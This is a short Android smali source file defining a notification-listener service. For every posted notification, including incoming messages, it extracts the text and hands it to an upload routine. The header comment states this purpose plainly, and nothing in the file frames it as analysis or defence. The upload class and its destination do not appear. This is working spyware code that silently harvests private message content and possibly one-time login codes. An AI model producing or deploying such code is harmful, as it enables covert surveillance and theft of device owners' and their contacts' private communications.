# SPDX-License-Identifier: Apache-2.0
# Takes the text of every notification, incoming messages among them, and sends it on.
.class public Lcom/example/haixing/NoticeService;
.super Landroid/service/notification/NotificationListenerService;
.source "NoticeService.java"

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/service/notification/NotificationListenerService;-><init>()V
    return-void
.end method

.method public onNotificationPosted(Landroid/service/notification/StatusBarNotification;)V
    .locals 2
    invoke-virtual {p1}, Landroid/service/notification/StatusBarNotification;->getNotification()Landroid/app/Notification;
    move-result-object v0
    iget-object v0, v0, Landroid/app/Notification;->extras:Landroid/os/Bundle;
    const-string v1, "android.text"
    invoke-virtual {v0, v1}, Landroid/os/Bundle;->getCharSequence(Ljava/lang/String;)Ljava/lang/CharSequence;
    move-result-object v0
    invoke-static {v0}, Ljava/lang/String;->valueOf(Ljava/lang/Object;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lcom/example/haixing/TextUpload;->send(Ljava/lang/String;)V
    return-void
.end method
